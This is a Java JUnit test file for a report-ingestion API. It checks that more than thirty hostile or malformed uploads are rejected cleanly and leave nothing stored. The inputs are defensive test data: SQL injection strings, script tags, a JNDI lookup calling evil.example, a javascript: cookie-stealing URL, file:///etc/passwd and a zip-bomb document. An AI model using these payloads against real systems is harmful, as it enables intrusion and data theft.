package io.fazhi.ingest.api;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.fazhi.infra.InfraTestResource;
import io.fazhi.infra.Tokens;
import io.fazhi.ingest.fixtures.Db;
import io.fazhi.ingest.fixtures.Documents;
import io.fazhi.ingest.fixtures.Samples;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.config.EncoderConfig;
import io.restassured.config.RestAssuredConfig;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.Supplier;
import org.junit.jupiter.api.Test;

/**
 * Hostile and broken inputs: each gets its documented status as problem details (never a 500 or a stack trace),
 * nothing of a refused upload is stored, and the service stays healthy and keeps accepting good uploads.
 */
@QuarkusTest
@WithTestResource(InfraTestResource.class)
@WithTestResource(Tokens.class)
class HostileInputTest {
    private static final RestAssuredConfig RAW = RestAssuredConfig.config()
            .encoderConfig(EncoderConfig.encoderConfig().appendDefaultContentCharsetToContentTypeIfUndefined(false));
    private static final Random RANDOM = new Random(42);

    private record Case(String name, int expected, Supplier<Response> request) {}

    private static RequestSpecification op() {
        return given().config(RAW).header("Authorization", Tokens.operator());
    }

    private static Response json(Map<String, Object> body) {
        return op().contentType("application/json").body(body).post("/api/v1/reports");
    }

    private static Response jsonRaw(String body) {
        return op().contentType("application/json; charset=UTF-8")
                .body(body.getBytes(StandardCharsets.UTF_8))
                .post("/api/v1/reports");
    }

    /** A good report with one metadata field set to a hostile value. */
    private static Response withField(String field, Object value) {
        Map<String, Object> body = new HashMap<>();
        body.put("text", Samples.report("江门市司法局", 2019));
        body.put(field, value);
        return json(body);
    }

    private static Response text(String contentType, byte[] body) {
        return op().contentType(contentType).body(body).post("/api/v1/reports");
    }

    private static Response file(String name, byte[] bytes, String type) {
        return op().multiPart("file", name, bytes, type).post("/api/v1/reports");
    }

    private static byte[] random(int n) {
        byte[] b = new byte[n];
        RANDOM.nextBytes(b);
        return b;
    }

    private static String repeat(String s, int times) {
        return s.repeat(times);
    }

    @Test
    void everyHostileInputGetsItsStatusAndNothingHalfStoredRemains() {
        List<Case> cases = new ArrayList<>();
        // --- empty and malformed
        cases.add(new Case("empty JSON text", 422, () -> json(Map.of("text", ""))));
        cases.add(new Case("blank JSON text", 422, () -> json(Map.of("text", " \n\t\u3000 "))));
        cases.add(new Case("empty text/plain body", 422, () -> text("text/plain; charset=UTF-8", new byte[0])));
        cases.add(new Case("truncated JSON", 400, () -> jsonRaw("{\"text\": \"江门")));
        cases.add(new Case("JSON array", 400, () -> jsonRaw("[\"法治政府\"]")));
        cases.add(new Case("JSON without text", 400, () -> jsonRaw("{\"city\": \"江门市\"}")));
        cases.add(new Case("JSON number as text", 422, () -> jsonRaw("{\"text\": 12345}")));
        cases.add(new Case(
                "year as a string", 400, () -> jsonRaw("{\"text\": \"法治政府建设年度报告全文内容如下\", \"year\": \"二〇一九\"}")));
        // --- huge
        cases.add(new Case(
                "21 MB body",
                413,
                () -> text(
                        "text/plain; charset=UTF-8",
                        repeat("法治政府建设年度报告。", 21 * 1024 * 1024 / 33 + 1000).getBytes(StandardCharsets.UTF_8))));
        cases.add(new Case(
                "2.1 million characters of text", 413, () -> json(Map.of("text", repeat("依法行政全面推进", 270_000)))));
        // --- binary and undecodable
        cases.add(new Case("random bytes as text", 422, () -> text("text/plain", random(4096))));
        cases.add(new Case("random bytes as octet-stream", 415, () -> text("application/octet-stream", random(4096))));
        cases.add(new Case(
                "invalid UTF-8 declared UTF-8",
                422,
                () -> text(
                        "text/plain; charset=UTF-8",
                        new byte[] {(byte) 0xe6, (byte) 0xb3, 0x41, (byte) 0xc3, 0x28, (byte) 0xff, (byte) 0xfe})));
        cases.add(new Case(
                "unknown charset",
                415,
                () -> text("text/plain; charset=x-klingon", "法治政府".getBytes(StandardCharsets.UTF_8))));
        cases.add(new Case(
                "English text",
                422,
                () -> json(Map.of(
                        "text", "Annual report on building a law-based government. We handled 120 cases in 2019."))));
        cases.add(new Case("NUL bytes in text", 422, () -> json(Map.of("text", "法治政府" + repeat("\u0000", 500)))));
        cases.add(new Case("image/png", 415, () -> text("image/png", random(2048))));
        // --- documents
        cases.add(new Case(
                "zip-bomb .docx",
                422,
                () -> file(
                        "bomb.docx", Documents.zipBombDocx(50), io.fazhi.ingest.domain.document.DocumentReader.DOCX)));
        cases.add(new Case(
                "broken PDF",
                422,
                () -> file(
                        "broken.pdf",
                        ("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\n" + repeat("garbage ", 200))
                                .getBytes(StandardCharsets.US_ASCII),
                        "application/pdf")));
        cases.add(new Case(
                "PDF without text", 422, () -> file("empty.pdf", Documents.pdf(List.of()), "application/pdf")));
        cases.add(new Case(
                "random bytes named .docx", 422, () -> file("r.docx", random(3000), "application/octet-stream")));
        cases.add(new Case("legacy .doc", 415, () -> file("old.doc", random(3000), "application/msword")));
        cases.add(new Case("an .exe", 415, () -> file("setup.exe", random(3000), "application/x-msdownload")));
        cases.add(new Case(
                "multipart without file",
                400,
                () -> op().multiPart("agency", "江门市司法局").post("/api/v1/reports")));
        cases.add(new Case(
                "HTML full of scripts",
                422,
                () -> text(
                        "text/html; charset=UTF-8",
                        ("<html><head><script>" + repeat("alert('法治');", 500) + "</script></head><body><script>"
                                        + repeat("document.write('政府');", 500)
                                        + "</script><noscript>请启用脚本</noscript></body></html>")
                                .getBytes(StandardCharsets.UTF_8))));
        // --- injection strings and odd Unicode in every metadata field
        cases.add(new Case("SQL in agency", 400, () -> withField("agency", "'; DROP TABLE ingest.report; --")));
        cases.add(new Case("script in city", 400, () -> withField("city", "<script>alert(1)</script>")));
        cases.add(
                new Case("JNDI lookup in district", 400, () -> withField("district", "${jndi:ldap://evil.example/a}")));
        cases.add(new Case("RTL override in title", 400, () -> withField("title", "报告\u202Egnp.exe")));
        cases.add(new Case("NUL in agency", 400, () -> withField("agency", "江门市\u0000司法局")));
        cases.add(new Case(
                "lone surrogate in title",
                400,
                () -> jsonRaw("{\"text\": \"" + Samples.report("江门市司法局", 2019).replace("\n", "\\n")
                        + "\", \"title\": \"\\ud800报告\"}")));
        cases.add(new Case("impossible date in published", 400, () -> withField("published", "2020-13-45")));
        cases.add(new Case("SQL in published", 400, () -> withField("published", "1' OR '1'='1")));
        cases.add(new Case("javascript: URL", 400, () -> withField("sourceUrl", "javascript:alert(document.cookie)")));
        cases.add(new Case("file: URL", 400, () -> withField("sourceUrl", "file:///etc/passwd")));
        cases.add(new Case("year 99999", 400, () -> withField("year", 99999)));
        cases.add(new Case(
                "year with SQL as query parameter",
                400,
                () -> op().contentType("text/plain; charset=UTF-8")
                        .queryParam("year", "2019; DROP TABLE report")
                        .body(Samples.report("江门市司法局", 2019))
                        .post("/api/v1/reports")));
        cases.add(new Case("agency of 300 characters", 400, () -> withField("agency", repeat("局", 300))));
        cases.add(new Case(
                "control characters in Idempotency-Key",
                400,
                () -> op().header("Idempotency-Key", "a\tb")
                        .contentType("application/json")
                        .body(Map.of("text", Samples.report("江门市司法局", 2019)))
                        .post("/api/v1/reports")));
        cases.add(new Case("SQL in a report id", 404, () -> op().get("/api/v1/reports/' OR '1'='1")));
        cases.add(new Case("page size 1e6", 400, () -> op().get("/api/v1/reports?size=1000000")));
        // --- accepted as plain data: injection in free text is stored and echoed verbatim, never executed
        cases.add(new Case("SQL in title is just a title", 202, () -> withField("title", "'; DROP TABLE report; --")));
        cases.add(new Case("emoji and combining marks in title", 202, () -> withField("title", "报告🎉Cafe\u0301")));
        cases.add(new Case(
                "deeply nested HTML",
                202,
                () -> text(
                        "text/html; charset=UTF-8",
                        (repeat("<div>", 3000) + "<p>" + Samples.report("江门市司法局", 2019) + "</p>"
                                        + repeat("</div>", 3000))
                                .getBytes(StandardCharsets.UTF_8))));
        assertTrue(cases.size() >= 30, "at least 30 hostile inputs");

        Map<String, Long> before = Db.counts();
        int accepted = 0;
        Map<String, String> wrong = new LinkedHashMap<>();
        for (Case c : cases) {
            Response r = c.request().get();
            String body = r.asString();
            if (r.statusCode() != c.expected()) {
                wrong.put(c.name(), r.statusCode() + " " + body);
                continue;
            }
            if (c.expected() >= 400) {
                if (!r.contentType().startsWith("application/problem+json")) {
                    wrong.put(c.name(), "content type " + r.contentType() + ": " + body);
                    continue;
                }
                assertEquals(c.expected(), r.jsonPath().getInt("status"), c.name());
                assertFalse(
                        body.contains("Exception") || body.contains("\tat ") || body.contains("io.fazhi"),
                        c.name() + " leaks internals: " + body);
            } else {
                accepted++;
            }
        }
        assertTrue(wrong.isEmpty(), "unexpected answers: " + wrong);

        Map<String, Long> after = Db.counts();
        // the accepted ones name one agency and year in their titles: a report and its revisions
        assertTrue(after.get("report") <= before.get("report") + accepted, "only the accepted uploads are stored");
        assertEquals(before.get("report_revision") + accepted, after.get("report_revision"));
        assertTrue(after.get("upload_blob") <= before.get("upload_blob") + accepted, "no orphan uploads");
        assertEquals(before.get("idempotency_key"), after.get("idempotency_key"));
        assertEquals(
                0,
                Db.scalar("SELECT count(*) FROM ingest.upload_blob b WHERE NOT EXISTS "
                        + "(SELECT 1 FROM ingest.report_revision v WHERE v.blob_sha256 = b.sha256)"),
                "orphan uploads");
        // the injection in the title was data
        assertEquals(
                1, Db.scalar("SELECT count(*) FROM ingest.report_revision WHERE title = '''; DROP TABLE report; --'"));

        given().get("/q/health/ready").then().statusCode(200);
        json(Map.of("text", Samples.report("江门市司法局", 2019) + UUID.randomUUID()))
                .then()
                .statusCode(202);
    }
}
